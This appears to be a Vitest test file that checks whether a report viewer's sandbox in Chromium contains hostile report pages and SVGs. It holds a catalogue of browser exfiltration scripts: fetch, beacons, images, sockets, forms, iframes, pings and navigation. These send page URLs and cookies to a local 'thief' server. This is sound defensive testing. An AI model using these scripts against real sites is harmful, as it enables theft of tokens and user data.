import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it, onTestFinished } from 'vitest';
import { chromium } from '../support/browser/chromium.ts';
import { servedPages } from './servedPages.ts';
import { startServer, temporaryFolder, writeRun } from './startServer.ts';

const web = fileURLToPath(new URL('../../dist/web/', import.meta.url));
const token = '0123456789abcdef0123456789abcdef';

/** What a hostile report knows, as a string of its script. */
const known = `[location.href, document.URL, document.baseURI, document.referrer, name, String(location.ancestorOrigins?.[0]),
  (() => { try { return document.cookie; } catch { return 'no cookie'; } })(),
  (() => { try { return parent.location.href; } catch { return 'no parent'; } })()].join(' ')`;

/** Scripts that leave the report where it is; `to(NAME)` is an address at the thief's. */
const sends = `
  const all = [
    () => fetch(to('fetch')).catch(() => {}),
    () => navigator.sendBeacon(to('beacon')),
    () => (new Image().src = to('img')),
    () => new WebSocket(to('socket').replace('http', 'ws')),
    () => new EventSource(to('events')),
    () => new Worker(to('worker')),
    () => import(to('import')).catch(() => {}),
    () => window.open(to('open')),
    () => (top.location = to('top')),
    () => (parent.location.href = to('parent')),
    () => add('<form action="' + to('form') + '"><input name=a></form>').submit(),
    () => add('<form target=_top action="' + to('form-top') + '"><input name=a></form>').submit(),
    () => add('<a target=_top href="' + to('link-top') + '">').click(),
    () => add('<a target=_blank href="' + to('link-blank') + '">').click(),
    () => add('<iframe src="' + to('frame') + '"></iframe>'),
    () => add('<iframe srcdoc="<img src=' + to('inner') + '>"></iframe>'),
    () => add('<object data="' + to('object') + '"></object>'),
    () => add('<link rel=stylesheet href="' + to('sheet') + '">'),
    () => add('<link rel=prefetch href="' + to('prefetch') + '">'),
    () => add('<p style="background: url(' + to('style') + ')">'),
    () => add('<a href="#here" ping="' + to('ping') + '">').click(),
  ];
  function add(markup) {
    document.body.insertAdjacentHTML('beforeend', markup);
    return document.body.lastElementChild;
  }
  for (const each of all) try { each(); } catch {}
  document.title = 'tried';`;

/** Scripts that lead the report's own frame elsewhere, each on a page of its own. */
const leaves = {
  location: `location = to('location')`,
  link: `document.body.innerHTML = '<a href="' + to('link') + '">'; document.links[0].click()`,
  download: `document.body.innerHTML = '<a download href="' + to('download') + '">'; document.links[0].click()`,
  refresh: `document.head.innerHTML = '<meta http-equiv="refresh" content="0; url=' + to('refresh') + '">'`,
};

describe.skipIf(!chromium)('a hostile report in Chromium', () => {
  const open = servedPages();

  /** A server that notes what is asked of it. */
  async function thief() {
    const got: string[] = [];
    const server = createServer(({ url }, response) => {
      got.push(url!);
      response.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => {
      server.closeAllConnections();
      server.close();
    });
    return { got, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
  }

  async function serveHostile(script: string, name = 'report.html') {
    const { got, url: elsewhere } = await thief();
    const runs = temporaryFolder();
    await writeRun(join(runs, 'hostile'));
    const code = `const known = ${known}; const to = (way) => '${elsewhere}/' + way + '?' + encodeURIComponent(known); ${script}`;
    const page = `<!doctype html><head></head><body><h1>hostile</h1><script>${code}</script></body>`;
    const picture = `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${code}]]></script></svg>`;
    writeFileSync(join(runs, 'hostile', 'report.html'), page);
    writeFileSync(join(runs, 'hostile', 'picture.svg'), picture);
    const { url } = await startServer({ runs, web, token });
    const address = `${url}/${token}/runs/hostile/${name === 'report.html' ? '' : name}`;
    const { page: opened, complaints } = await open(address);
    // Otherwise an empty list would say nothing.
    await fetch(`${elsewhere}/counted`);
    return { page: opened, address, complaints, reached: () => got.filter((path) => path !== '/counted') };
  }

  it('learns nothing of the token, and nothing that it sends arrives', async () => {
    const { page, address, reached } = await serveHostile(sends);
    const frame = page.frames().at(1)!;
    await frame.waitForFunction(`document.title === 'tried'`);
    const said = (await frame.evaluate(known)) as string;
    expect(said).toMatch(/^http:\S+report\.html\S*/);
    expect(said).not.toContain(token);
    expect(said).toContain('no cookie no parent');
    await page.waitForLoadState('networkidle');
    expect(reached()).toEqual([]);
    expect(page.url()).toBe(address);
    expect(page.context().pages()).toHaveLength(1);
  });

  it.each(Object.keys(leaves))('cannot leave by %s', async (way) => {
    const { page, address, complaints, reached } = await serveHostile(leaves[way as keyof typeof leaves]);
    await expect.poll(() => complaints().join('\n')).toContain('frame-src');
    await page.waitForLoadState('networkidle');
    expect(reached()).toEqual([]);
    expect(page.url()).toBe(address);
    // The way back is still there.
    await page.getByRole('link', { name: 'All results' }).click();
    await page.getByRole('heading', { name: /./ }).first().waitFor();
    expect(page.url()).toMatch(new RegExp(`/${token}/$`));
  });

  it('is in a frame as a picture with scripts too', async () => {
    const { page, address, complaints, reached } = await serveHostile(leaves.location, 'picture.svg');
    await expect.poll(() => complaints().join('\n')).toContain('frame-src');
    expect(reached()).toEqual([]);
    expect(page.url()).toBe(address);
  });
});
